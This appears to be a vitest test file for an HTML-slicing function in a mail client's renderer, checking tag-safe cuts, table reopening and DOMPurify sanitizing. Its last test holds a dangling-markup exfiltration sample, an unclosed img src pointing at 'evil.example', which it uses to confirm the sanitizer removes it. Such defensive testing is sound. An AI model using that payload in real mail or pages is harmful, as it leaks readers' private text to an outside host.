// @vitest-environment jsdom
// jsdom, not happy-dom: the slices go through DOMPurify, which does not support happy-dom.
import { describe, expect, it } from 'vitest';
import { FIRST_SLICE, htmlSlice, type HtmlSlice } from '../../../src-renderer/components/HtmlBody/html-slice';
import { sanitizeMailHtml } from '../../../src-renderer/components/HtmlBody/sanitize-mail-html';

function allSlices(html: string, size: number): HtmlSlice[] {
  const slices = [htmlSlice(html, FIRST_SLICE, size)];
  while (slices.at(-1)!.next) slices.push(htmlSlice(html, slices.at(-1)!.next!, size));
  return slices;
}

describe('htmlSlice', () => {
  it('returns short mail whole', () => {
    expect(htmlSlice('<p>short</p>', FIRST_SLICE)).toEqual({ html: '<p>short</p>', next: null });
  });

  it('cuts just after a whole tag, within the size', () => {
    const html = '<p>one</p><p>two words</p><p>three</p>';
    const first = htmlSlice(html, FIRST_SLICE, 20);
    expect(first.html).toBe('<p>one</p><p>');
    expect(first.next?.offset).toBe('<p>one</p><p>'.length);
  });

  it('does not cut inside an attribute whose quoted value holds ">"', () => {
    const html = `<p>before</p><img src="https://x.example/?a>b" alt="x"><p>${'after '.repeat(50)}</p>`;
    const first = htmlSlice(html, FIRST_SLICE, html.indexOf('b"') + 1);
    expect(first.html).toBe('<p>before</p>');
  });

  it('reopens the elements open at the cut, so rows stay in their table', () => {
    const rows = Array.from({ length: 50 }, (_, n) => `<tr><td>row ${n}</td></tr>`).join('');
    const html = `<div class="wrap"><table width="600" align="center"><tbody>${rows}</tbody></table></div><p>end</p>`;
    const slices = allSlices(html, 200);
    expect(slices.length).toBeGreaterThan(3);
    for (const slice of slices.slice(1, -1)) expect(slice.html.startsWith('<div class="wrap"><table width="600" align="center"><tbody>')).toBe(true);
    const sanitized = slices.map((slice) => sanitizeMailHtml(slice.html, { allowRemote: false }).html).join('');
    for (let n = 0; n < 50; n += 1) expect(sanitized).toContain(`<td>row ${n}</td>`);
    expect(sanitized).toContain('<p>end</p>');
  });

  it('skips the text of style elements when looking for tags', () => {
    const html = `<style>p > b { color: red } /* <table> */</style><p>${'text '.repeat(100)}</p>`;
    const first = htmlSlice(html, FIRST_SLICE, 100);
    expect(first.next?.openTags).toEqual([{ name: 'p', attributes: '' }]);
    expect(first.html).toContain('</style>');
  });

  it('leaves nothing that loads when a slice is cut short of a dangling attribute', () => {
    const html = `<p>before</p><img src="https://evil.example/?a=<p>${'secret '.repeat(50)}</p>`;
    for (const slice of allSlices(html, 64)) {
      expect(sanitizeMailHtml(slice.html, { allowRemote: true }).html).not.toContain('evil.example');
    }
  });
});
